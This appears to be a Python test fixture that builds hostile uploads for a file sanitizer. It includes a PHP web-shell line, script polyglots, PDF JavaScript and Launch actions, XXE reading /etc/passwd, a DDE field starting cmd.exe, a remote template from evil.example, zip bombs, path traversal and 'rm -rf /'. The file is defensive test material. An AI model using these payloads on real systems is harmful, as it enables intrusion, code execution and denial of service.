"""Files made to do harm, by code: name → what is sent and under which name."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pillow_heif
from PIL import Image, ImageCms, PngImagePlugin

from .conftest import PDF, photo

GPS_MARK = b"GPSPLACE-59.9139N"
HIDDEN = b"<script>alert('hidden')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
XMP = (
    b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description exif:GPSLatitude="'
    + GPS_MARK
    + b'"/><exif:GPSLongitude>'
    + GPS_MARK
    + b'</exif:GPSLongitude></x:xmpmeta><?xpacket end="w"?>'
)


@dataclass(frozen=True)
class Hostile:
    """`refused`: the code it is refused with; else it is to be made harmless."""

    data: bytes
    name: str = "bilde.jpg"
    refused: str = ""


def exif() -> bytes:
    found = Image.Exif()
    found[0x010E] = GPS_MARK.decode()  # The description, free text.
    place = found.get_ifd(0x8825)
    place.update({1: "N", 2: (59.0, 54.0, 50.0), 3: "E", 4: (10.0, 45.0, 8.0), 0x1D: GPS_MARK.decode()})
    return found.tobytes()


def zipped(*parts: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:
            archive.writestr(name, data)
    return out.getvalue()


TYPES_XML = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)
WORDS = b'<?xml version="1.0"?><w:document xmlns:w="w"><w:body><w:t>Hei</w:t></w:body></w:document>'


def docx(*parts: tuple[str, bytes], document: bytes = WORDS) -> bytes:
    return zipped(("[Content_Types].xml", TYPES_XML), ("word/document.xml", document), *parts)


def relations(kind: str, target: str, mode: str = "External") -> tuple[str, bytes]:
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        "word/_rels/document.xml.rels",
        f'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="{schema}/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'.encode(),
    )


def field(instruction: str) -> bytes:
    half = len(instruction) // 2
    return (
        '<?xml version="1.0"?><w:document xmlns:w="w"><w:instrText>'
        + instruction[:half]
        + "</w:instrText></w:r><w:r><w:instrText>"
        + instruction[half:]
        + "</w:instrText></w:document>"
    ).encode()


def pdf(inside: bytes) -> bytes:
    return PDF.replace(b"/Catalog", b"/Catalog" + inside)


def packed_pdf(inside: bytes, *, head: bytes = b"/Filter/FlateDecode", data: bytes | None = None) -> bytes:
    """A PDF whose object stream holds `inside`."""
    packed = zlib.compress(b"5 0 " + inside) if data is None else data
    stream = b"4 0 obj<</Type/ObjStm/N 1/First 4%s/Length %d>>stream\n" % (head, len(packed))
    return PDF.replace(b"trailer", stream + packed + b"\nendstream endobj\ntrailer")


def png(width: int, height: int, *chunks: tuple[bytes, bytes], colour: int = 2) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", zlib.crc32(kind + data))

    body = [chunk(b"IHDR", struct.pack("!LLBBBBB", width, height, 8, colour, 0, 0, 0))]
    body += [chunk(*one) for one in chunks]
    rows = zlib.compress(b"\0" * ((width * 3 + 1) * height if width * height < 10**6 else 1000))
    return b"\x89PNG\r\n\x1a\n" + b"".join(body) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def flood(kind: str) -> bytes:
    """A small file that says it has hundreds of megapixels."""
    if kind == "png":
        return png(30000, 30000)
    if kind == "gif":
        return (
            b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0" + bytes(20)
        )
    if kind == "webp":
        body = b"VP8X" + struct.pack("<L", 10) + b"\0\0\0\0" + (16000).to_bytes(3, "little") * 2
        return b"RIFF" + struct.pack("<L", len(body) + 4) + b"WEBP" + body
    if kind == "jpeg":
        data = photo()
        at = data.index(b"\xff\xc0") + 5
        return data[:at] + struct.pack("!HH", 60000, 60000) + data[at + 4 :]
    out = io.BytesIO()
    Image.new("1", (6000, 6000)).save(out, "TIFF", compression="group4")
    return out.getvalue()


def saved(image: Image.Image, kind: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def heic(**options) -> bytes:
    out = io.BytesIO()
    picture = Image.linear_gradient("L").resize((160, 120)).convert("RGB")
    pillow_heif.from_pillow(picture).save(out, quality=60, **options)
    return out.getvalue()


def animated(kind: str) -> bytes:
    frames = [Image.new("RGB", (40, 30), colour) for colour in ("red", "green", "blue")]
    return saved(frames[0], kind, save_all=True, append_images=frames[1:], duration=80)


def with_text(kind: bytes) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    info.add_text("Comment", (GPS_MARK + HIDDEN).decode(), zip=kind == b"zTXt")
    return photo("PNG", pnginfo=info)


def profile(size: int) -> bytes:
    made = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return made + (GPS_MARK * (size // len(GPS_MARK) + 1))[:size]


def bomb_chunk() -> tuple[bytes, bytes]:
    """A compressed colour profile of 40 MB in 40 kB."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(1024 * 1024)) for _ in range(40)) + packer.flush()
    return b"iCCP", b"icc\0\0" + data


MAKERS: dict[str, Callable[[], Hostile]] = {
    # --- What says it is a picture --------------------------------------------------------------------------
    "svg as jpeg": lambda: Hostile(SVG, refused="kind"),
    "html as jpeg": lambda: Hostile(HTML, refused="kind"),
    "php as jpeg": lambda: Hostile(b"<?php system($_GET['c']); ?>", refused="kind"),
    "html behind a gif header": lambda: Hostile(b"GIF89a" + HTML, "a.gif", "kind"),
    "html behind a jpeg header": lambda: Hostile(b"\xff\xd8\xff\xe0" + HTML, refused="not-an-image"),
    "html behind a png header": lambda: Hostile(b"\x89PNG\r\n\x1a\n" + HTML, "a.png", "not-an-image"),
    "html behind a webp header": lambda: Hostile(b"RIFF\0\0\0\0WEBP" + HTML, "a.webp", "not-an-image"),
    "html behind a heic header": lambda: Hostile(b"\0\0\0\x18ftypheic" + HTML, "a.heic", "not-an-image"),
    "postscript": lambda: Hostile(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", "a.eps", "kind"),
    "bmp": lambda: Hostile(photo("BMP"), "a.bmp", "kind"),
    "tiff flood": lambda: Hostile(flood("tiff"), "a.tif", "kind"),
    "gif flood": lambda: Hostile(flood("gif"), "a.gif", "kind"),
    "png flood": lambda: Hostile(flood("png"), "a.png", "too-many-pixels"),
    "jpeg flood": lambda: Hostile(flood("jpeg"), refused="too-many-pixels"),
    "webp flood": lambda: Hostile(flood("webp"), "a.webp", "not-an-image"),
    "no bytes": lambda: Hostile(b"", refused="empty"),
    "one byte": lambda: Hostile(b"\xff", refused="kind"),
    "huge": lambda: Hostile(b"\xff\xd8\xff" + bytes(16 * 1024 * 1024), refused="too-big"),
    "truncated jpeg": lambda: Hostile(photo()[:-200][:900], refused="not-an-image"),
    "truncated png": lambda: Hostile(photo("PNG")[:300], "a.png", "not-an-image"),
    "truncated heic": lambda: Hostile(heic()[:400], "a.heic", "not-an-image"),
    "png with a broken checksum": lambda: Hostile(
        photo("PNG")[:40] + b"\0\0" + photo("PNG")[42:], "a.png", "not-an-image"
    ),
    "eicar as jpeg": lambda: Hostile(EICAR, refused="kind"),
    # --- Pictures with something in them --------------------------------------------------------------------
    "gps in jpeg": lambda: Hostile(photo(exif=exif(), comment=GPS_MARK, xmp=XMP)),
    "gps in png": lambda: Hostile(photo("PNG", exif=exif()), "a.png"),
    "gps in webp": lambda: Hostile(photo("WEBP", exif=exif(), xmp=XMP), "a.webp"),
    "gps in heic": lambda: Hostile(heic(exif=exif(), xmp=XMP), "a.heic"),
    "xmp and text in png": lambda: Hostile(with_text(b"tEXt"), "a.png"),
    "compressed text in png": lambda: Hostile(with_text(b"zTXt"), "a.png"),
    "zip behind jpeg": lambda: Hostile(photo() + zipped(("a.txt", HIDDEN))),
    "jar behind gif bytes in jpeg": lambda: Hostile(
        photo() + b"GIF89a" + zipped(("META-INF/MANIFEST.MF", b"x"))
    ),
    "html behind png": lambda: Hostile(photo("PNG") + HTML + HIDDEN, "a.png"),
    "pdf behind jpeg": lambda: Hostile(photo() + pdf(b"/AA<</S/JavaScript/JS(x)>>")),
    "virus behind jpeg": lambda: Hostile(photo() + EICAR),
    "script in a jpeg comment": lambda: Hostile(photo(comment=HIDDEN + GPS_MARK)),
    "script in a profile": lambda: Hostile(photo(icc_profile=profile(60_000))),
    "huge profile": lambda: Hostile(photo(icc_profile=profile(1_500_000))),
    "bomb in a profile": lambda: Hostile(png(30, 20, bomb_chunk()), "a.png", "not-an-image"),
    "animated webp": lambda: Hostile(animated("WEBP"), "a.webp"),
    "animated png": lambda: Hostile(animated("PNG"), "a.png"),
    "cmyk": lambda: Hostile(saved(Image.new("CMYK", (60, 40), (9, 200, 30, 4)), "JPEG", comment=GPS_MARK)),
    "sixteen bits of grey": lambda: Hostile(saved(Image.new("I;16", (60, 40), 40000), "PNG"), "a.png"),
    "palette with transparency": lambda: Hostile(
        saved(Image.new("P", (60, 40), 3), "PNG", transparency=3), "a.png"
    ),
    "several pictures in one jpeg": lambda: Hostile(
        saved(
            Image.new("RGB", (60, 40), "red"),
            "MPO",
            save_all=True,
            append_images=[Image.new("RGB", (60, 40), "blue")],
            exif=exif(),
        )
    ),
    # --- PDF ------------------------------------------------------------------------------------------------
    "html as pdf": lambda: Hostile(HTML, "a.pdf", "kind"),
    "program before pdf": lambda: Hostile(b"MZ" + bytes(50) + PDF, "a.pdf", "kind"),
    "pdf cut off": lambda: Hostile(PDF[:-7], "a.pdf", "content"),
    "html behind pdf": lambda: Hostile(PDF + HTML, "a.pdf", "content"),
    "zip in the end of a pdf": lambda: Hostile(PDF + zipped(("a", b"x")) + b"\n%%EOF\n", "a.pdf", "embedded"),
    "javascript in pdf": lambda: Hostile(
        pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "a.pdf", "pdf-active"
    ),
    "javascript by another spelling": lambda: Hostile(
        pdf(b"/OpenAction<</S/J#61va#53cript>>"), "a.pdf", "pdf-active"
    ),
    "launch in pdf": lambda: Hostile(pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "a.pdf", "pdf-active"),
    "form that sends in pdf": lambda: Hostile(pdf(b"/A<</S/SubmitForm>>"), "a.pdf", "pdf-active"),
    "xfa in pdf": lambda: Hostile(pdf(b"/AcroForm<</XFA[]>>"), "a.pdf", "pdf-active"),
    "file in pdf": lambda: Hostile(pdf(b"/Names<</EmbeddedFiles<<>>>>"), "a.pdf", "embedded"),
    "encrypted pdf": lambda: Hostile(
        PDF.replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 9 0 R"), "a.pdf", "encrypted"
    ),
    "streams that break behind much": lambda: Hostile(
        PDF.replace(
            b"trailer",
            (b"4 0 obj<</First 1>>stream\n" + zlib.compress(bytes(40_000_000))[:-4] + b"\0\0\0\0endstream ")
            * 60
            + b"trailer",
        ),
        "a.pdf",
        "pdf-unreadable",
    ),
    "javascript in an object stream": lambda: Hostile(
        packed_pdf(b"<</S/JavaScript>>"), "a.pdf", "pdf-active"
    ),
    "javascript in a stream that hides what it is": lambda: Hostile(
        packed_pdf(b"<</S/JavaScript>>").replace(b"/ObjStm", b"/O#62jStm"), "a.pdf", "pdf-active"
    ),
    "object stream in hex": lambda: Hostile(
        packed_pdf(b"", head=b"/Filter/ASCIIHexDecode", data=b"3520302F4A61766153>"),
        "a.pdf",
        "pdf-unreadable",
    ),
    "object stream with a predictor": lambda: Hostile(
        packed_pdf(b"<<>>", head=b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>"),
        "a.pdf",
        "pdf-unreadable",
    ),
    "bomb in pdf": lambda: Hostile(
        packed_pdf(b"", data=zlib.compress(bytes(70 * 1024 * 1024), 1)), "a.pdf", "bomb"
    ),
    "thousands of object streams": lambda: Hostile(
        PDF.replace(
            b"trailer", b"4 0 obj<</Type/ObjStm/First 4>>stream\nx\nendstream endobj\n" * 3000 + b"trailer"
        ),
        "a.pdf",
        "pdf-unreadable",
    ),
    "exif that never ends": lambda: Hostile(
        PDF.replace(b"trailer", b"\xff\xe1\xff\xffExif\0\0" * 1_000_000 + b"\ntrailer"), "a.pdf"
    ),
    "stream with a blank behind its name": lambda: Hostile(
        packed_pdf(b"<</S/JavaScript>>").replace(b">>stream\n", b">>stream \t"), "a.pdf", "pdf-active"
    ),
    "eicar in pdf": lambda: Hostile(PDF[:-7] + EICAR + b"\n%%EOF\n", "a.pdf", "infected"),
    "gps in a picture in pdf": lambda: Hostile(
        PDF.replace(b"trailer", b"3 0 obj<<>>stream\n" + photo(exif=exif()) + b"\nendstream endobj\ntrailer"),
        "a.pdf",
    ),
    "gps in xmp in pdf": lambda: Hostile(
        PDF.replace(b"trailer", b"3 0 obj<</Subtype/XML>>stream\n" + XMP + b"\nendstream endobj\ntrailer"),
        "a.pdf",
    ),
    # --- Word -----------------------------------------------------------------------------------------------
    "nonsense as docx": lambda: Hostile(b"PK\x03\x04nonsense", "a.docx", "content"),
    "zip as docx": lambda: Hostile(zipped(("a.txt", b"x")), "a.docx", "content"),
    "spreadsheet as docx": lambda: Hostile(
        zipped(("[Content_Types].xml", TYPES_XML), ("xl/workbook.xml", b"<w/>")), "a.docx", "content"
    ),
    "macros": lambda: Hostile(docx(("word/vbaProject.bin", b"x")), "a.docx", "macros"),
    "zip bomb": lambda: Hostile(docx(("word/a.xml", bytes(60_000_000))), "a.docx", "bomb"),
    "bomb that lies about its size": lambda: Hostile(lying_bomb(), "a.docx", "content"),
    "path out of the archive": lambda: Hostile(docx(("word/../../etc/passwd", b"x")), "a.docx", "content"),
    "absolute path": lambda: Hostile(docx(("/etc/passwd", b"x")), "a.docx", "content"),
    "xxe": lambda: Hostile(
        docx(document=b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'),
        "a.docx",
        "external",
    ),
    "xxe in utf-16": lambda: Hostile(
        docx(document='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///a">]><w/>'.encode("utf-16")),
        "a.docx",
        "content",
    ),
    "template from elsewhere": lambda: Hostile(
        docx(relations("attachedTemplate", "https://evil.example/a.dotm")), "a.docx", "external"
    ),
    "template from elsewhere by another spelling": lambda: Hostile(
        docx(relations("attached&#84;emplate", "https://evil.example/a.dotm", "E&#120;ternal")),
        "a.docx",
        "external",
    ),
    "link that starts a program": lambda: Hostile(
        docx(relations("hyperlink", "ms-msdt:/id PCWDiagnostic")), "a.docx", "external"
    ),
    "field that starts a program": lambda: Hostile(
        docx(document=field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k"')), "a.docx", "external"
    ),
    "fields that never end": lambda: Hostile(
        docx(document=b"".join(b"<w:instrText %d" % n for n in range(60_000))), "a.docx"
    ),
    "object inside": lambda: Hostile(docx(("word/embeddings/oleObject1.bin", b"x")), "a.docx", "embedded"),
    "program inside": lambda: Hostile(docx(("word/media/a.exe", b"MZ")), "a.docx", "picture-inside"),
    "svg inside": lambda: Hostile(docx(("word/media/a.svg", SVG)), "a.docx", "picture-inside"),
    "script as picture inside": lambda: Hostile(docx(("word/media/a.png", HTML)), "a.docx", "picture-inside"),
    "gps in a picture inside": lambda: Hostile(docx(("word/media/a.jpg", photo(exif=exif()))), "a.docx"),
    "eicar zipped": lambda: Hostile(docx(("word/a.xml", EICAR)), "a.docx", "infected"),
    "encrypted document": lambda: Hostile(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.docx", "encrypted"
    ),
    "program behind docx": lambda: Hostile(docx() + b"MZ" + HIDDEN, "a.docx"),
    "executable": lambda: Hostile(b"MZ\x90\0", "a.exe", "kind"),
    "script": lambda: Hostile(b"#!/bin/sh\nrm -rf /\n", "a.sh", "kind"),
    "archive": lambda: Hostile(b"Rar!\x1a\x07\0", "a.rar", "kind"),
}


def lying_bomb() -> bytes:
    """An archive whose directory says one kilobyte of what unpacks to twenty megabytes."""
    data = docx(("word/a.xml", bytes(20 * 1024 * 1024)))
    return data.replace(struct.pack("<L", 20 * 1024 * 1024), struct.pack("<L", 1024))


# Names of an otherwise ordinary picture → what it is called.
NAMES = {
    "../../etc/passwd.jpg": "passwd.jpg",
    "..\\..\\windows\\a.jpg": "a.jpg",
    "a\x00.php.jpg": "a.jpg",
    "faktura.pdf.exe": "faktura.jpg",
    "photo\u202egpj.exe": "photogpj.jpg",
    "kvitte\u200bring.JPEG": "kvittering.jpg",
    "a\r\nSet-Cookie: x=1.jpg": "a Set-Cookie- x=1.jpg",
    'a";filename="b.html': "a-;filename=-b.jpg",
    ".htaccess": "htaccess.jpg",
    "CON.jpg": "fil.jpg",
    "   . . ": "fil.jpg",
    "": "fil.jpg",
    "Møte 12.3 på Åsgård.png": "Møte 12.3 på Åsgård.jpg",
    "x" * 300 + ".jpg": "x" * 116 + ".jpg",
}
